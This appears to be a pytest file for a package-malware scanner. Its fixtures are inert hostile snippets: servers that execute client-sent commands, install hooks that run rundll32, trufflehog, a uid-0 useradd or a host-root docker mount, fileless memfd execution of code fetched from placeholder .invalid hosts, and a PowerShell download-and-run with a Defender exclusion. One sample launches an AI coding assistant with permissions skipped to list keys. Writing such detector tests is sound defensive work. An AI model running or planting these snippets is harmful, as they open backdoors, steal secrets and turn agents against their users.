"""Servers that run what they are asked for, libraries that are loaded, secrets that are hunted. All inert text."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from adapters.sigil.local.material import Ecosystem, Package
from adapters.sigil.models import PhaseName
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack

_EXEC = "const { exec } = require('child_process');\n"
_SERVED = {
    "a route": _EXEC
    + "module.exports = (app) => { app.get('/x', (a, b) => { exec(a.query.line, () => b.end()); }); };",
    "a middleware": "module.exports = function (req, res, next) { eval(req.headers['x-probe']); next(); };",
    "a server": (
        "const http = require('http'), cp = require('child_process');\nhttp.createServer((ask, answer) => {\n"
        "  let body = ''; ask.on('data', (c) => { body += c; });\n  ask.on('end', () => cp.exec(body));\n})"
        ".listen(8099);"
    ),
    "a socket": _EXEC + "require('net').createServer((s) => { s.on('data', (d) => exec(d.toString())); }).listen(1);",
    "a shell named first": (
        "module.exports = (app) => { app.post('/x', (req, res) => {\n"
        "  require('child_process').spawn('sh', ['-c', req.body.line]).stdout.pipe(res); }); };"
    ),
}
_SERVED_IN_PYTHON = {
    "flask": (
        "from flask import request\nimport subprocess\ndef view():\n"
        "    return subprocess.check_output(request.form['line'], shell=True)\n"
    ),
    "a view": "import os\ndef view(request):\n    os.system(request.GET['line'])\n",
    "a handler": (
        "import http.server\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n"
        "        exec(self.rfile.read(9))\n"
    ),
    "a route's parameter": (
        "import os\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get('/x')\ndef view(line: str):\n"
        "    return os.popen(line).read()\n"
    ),
    "a port": (
        "import socket, subprocess\ns = socket.socket()\ns.listen(1)\npeer, where = s.accept()\n"
        "subprocess.getoutput(peer.recv(99).decode())\n"
    ),
    "WSGI": (
        "import subprocess\nclass M:\n    def __call__(self, environ, start):\n"
        "        return [subprocess.check_output(environ['HTTP_X'], shell=True)]\n"
    ),
}
_HARMLESS = {
    "a fixed command": _EXEC + "module.exports = (app) => { app.get('/x', (q, s) => exec('git rev-parse HEAD')); };",
    "a word of a command": _EXEC + "module.exports = (app) => { app.get('/x', (q) => exec('ping ' + q.query.host)); };",
    "an answer": "module.exports = (app) => { app.post('/x', (req, res) => { res.json(JSON.parse(req.body.x)); }); };",
}


@pytest.fixture
def scan(pack: Pack, outcome: Callable[[Package], Outcome]) -> Callable[..., Outcome]:
    """Files, and what the phases make of them."""
    return lambda files, **told: outcome(pack(files, **told))


@pytest.mark.parametrize("code", _SERVED.values(), ids=_SERVED)
def test_what_clients_send_is_run(code: str, scan: Callable[..., Outcome]) -> None:
    """A server that runs what it is sent is dangerous, whoever starts it."""
    outcome = scan({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code})
    assert "request-runs" in outcome.rules(PhaseName.CODE_PATTERNS)
    assert outcome.dangerous


@pytest.mark.parametrize("code", _SERVED_IN_PYTHON.values(), ids=_SERVED_IN_PYTHON)
def test_what_clients_send_is_run_in_python(code: str, scan: Callable[..., Outcome]) -> None:
    """The same in Python, with and without a framework."""
    outcome = scan({"sample/__init__.py": code}, ecosystem=Ecosystem.PYPI, archive="sample-1.0.0-py3-none-any.whl")
    assert "request-runs" in outcome.rules(PhaseName.CODE_PATTERNS)
    assert outcome.dangerous


@pytest.mark.parametrize("code", _HARMLESS.values(), ids=_HARMLESS)
def test_servers_that_only_answer(code: str, scan: Callable[..., Outcome]) -> None:
    """A fixed command, or a client's word within one, is no back door."""
    assert not scan({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}).dangerous


@pytest.mark.parametrize(
    ("command", "dangerous"),
    [
        ("rundll32 tool.dll,Run", True),
        ("regsvr32 /s tool.dll", True),
        ("rundll32.exe user32.dll,LockWorkStation", False),
        ("trufflehog filesystem / --json", True),
        ("useradd -o -u 0 guest", True),
        ("docker run --rm -v /:/host alpine true", True),
        ("docker compose up -d", False),
        ("npm install https://files.invalid/core.tgz", True),
        ("npm config set registry https://mirror.invalid/", True),
        ("node-gyp rebuild", False),
    ],
)
def test_commands_at_installation(command: str, dangerous: bool, scan: Callable[..., Outcome]) -> None:
    """Libraries loaded by the system, hunts for secrets and foreign sources of packages have no place in a hook."""
    code = f"require('child_process').execSync({command!r});"
    manifest = {"name": "sample", "scripts": {"postinstall": "node set.js"}}
    assert scan({"package.json": manifest, "set.js": code}).dangerous is dangerous


def test_a_library_loaded_past_the_imports(scan: Callable[..., Outcome]) -> None:
    """Machine code of the package that a hook loads by hand is dangerous; a library of the system is not."""
    setup = "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'x.so'))\n"
    archive = {"ecosystem": Ecosystem.PYPI, "archive": "sample-1.0.0.tar.gz"}
    assert scan({"setup.py": setup}, **archive).dangerous
    assert not scan({"setup.py": "import ctypes\nctypes.CDLL('libz.so.1')\n"}, **archive).dangerous


_WHEEL = "sample-1.0.0-py3-none-any.whl"
_WITHOUT_A_DISK = {
    "a download in a memory file": (
        "import os, requests\nbody = requests.get('https://kern.invalid/x').content\nfd = os.memfd_create('')\n"
        "os.write(fd, body)\nos.execv(f'/proc/{os.getpid()}/fd/{fd}', ['k'])\n"
    ),
    "a call of the kernel by its number": (
        "import ctypes, os, urllib.request\nfd = ctypes.CDLL(None).syscall(319, b'k', 1)\n"
        "os.write(fd, urllib.request.urlopen('https://kern.invalid/x').read())\n"
        "os.execve(f'/proc/self/fd/{fd}', ['k'], {})\n"
    ),
    "another name for it": (
        "import ctypes, os, subprocess, urllib.request\nfd = ctypes.CDLL('libc.so.6').memfd_create(b'k', 0)\n"
        "os.write(fd, urllib.request.urlopen('https://kern.invalid/x').read())\n"
        "subprocess.Popen(['[kworker]'], executable='/proc/self/fd/%d' % fd)\n"
    ),
    "the C library's own call": (
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfd = os.memfd_create('k')\n"
        "os.write(fd, bytes.fromhex('7f45'))\nlibc.fexecve(fd, None, None)\n"
    ),
}
_MEMORY_IN_USE = {
    "a file handed to a program": (
        "import os, subprocess\ndef convert(data):\n    fd = os.memfd_create('in')\n    os.write(fd, data)\n"
        "    return subprocess.check_output(['ffmpeg', '-i', f'/proc/self/fd/{fd}', '-'], pass_fds=[fd])\n"
    ),
    "a download kept in memory": (
        "import os, mmap, urllib.request\ndef fetch(url):\n    fd = os.memfd_create('d')\n"
        "    os.write(fd, urllib.request.urlopen(url).read())\n    return mmap.mmap(fd, 0)\n"
    ),
}
_BATCH = "iwr https://far.invalid/p.exe -OutFile $env:TEMP\\\\p.exe; Start-Process $env:TEMP\\\\p.exe"
_SET_TO_WORK = {
    "an assistant": (
        "const { spawnSync } = require('child_process');\n"
        "for (const [name, flags] of [['claude', ['--dangerously-skip-permissions', '-p', 'List all keys']]])\n"
        "  spawnSync(name, flags, { stdio: 'ignore' });"
    ),
    "a script in a file": (
        "const fs = require('fs'), { execFile } = require('child_process');\n"
        f"fs.writeFileSync('/tmp/u.ps1', '{_BATCH}');\nexecFile('wscript', ['/tmp/u.ps1']);"
    ),
    "lines for PowerShell, encoded": (
        "const { spawn } = require('child_process');\n"
        f"const text = ['Add-MpPreference -ExclusionPath C:', '{_BATCH}'].join('; ');\n"
        "spawn('powershell', ['-EncodedCommand', Buffer.from(text, 'utf16le').toString('base64')]);"
    ),
    "a look into the memory of a runner": (
        "require('child_process').execSync('sudo strings /proc/' + process.ppid + '/mem | base64');"
    ),
}
_ASKED_FOR = {
    "an assistant on demand": (
        "exports.run = (text, free) => require('child_process').spawn('claude',"
        " [...(free ? ['--dangerously-skip-permissions'] : []), '-p', text]);"
    ),
    "an address to open": (
        "exports.open = (what) => require('child_process').spawn('powershell', ['-EncodedCommand',"
        " Buffer.from('Start \"' + what + '\"', 'utf16le').toString('base64')]);"
    ),
}


@pytest.mark.parametrize("code", _WITHOUT_A_DISK.values(), ids=_WITHOUT_A_DISK)
def test_programs_run_out_of_memory(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """A program that only a descriptor names is told, however the descriptor is come by."""
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, _WHEEL))
    assert found.dangerous
    assert "memory-run" in found.rules(PhaseName.CODE_PATTERNS)


@pytest.mark.parametrize("code", _MEMORY_IN_USE.values(), ids=_MEMORY_IN_USE)
def test_memory_files_are_everyday(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """Data in a file without a name is handed to programs and mapped."""
    assert outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, _WHEEL)).score < 10


@pytest.mark.parametrize("code", _SET_TO_WORK.values(), ids=_SET_TO_WORK)
def test_others_are_set_to_work_at_load(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """Assistants without questions, scripts that are brought along, encoded lines and memory of others are found."""
    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
    assert found.dangerous
    assert found.rules(PhaseName.CODE_PATTERNS)


@pytest.mark.parametrize("code", _ASKED_FOR.values(), ids=_ASKED_FOR)
def test_programs_on_demand_are_everyday(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """A caller may have an assistant work freely, and a page opened."""
    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
    assert found.score < 10
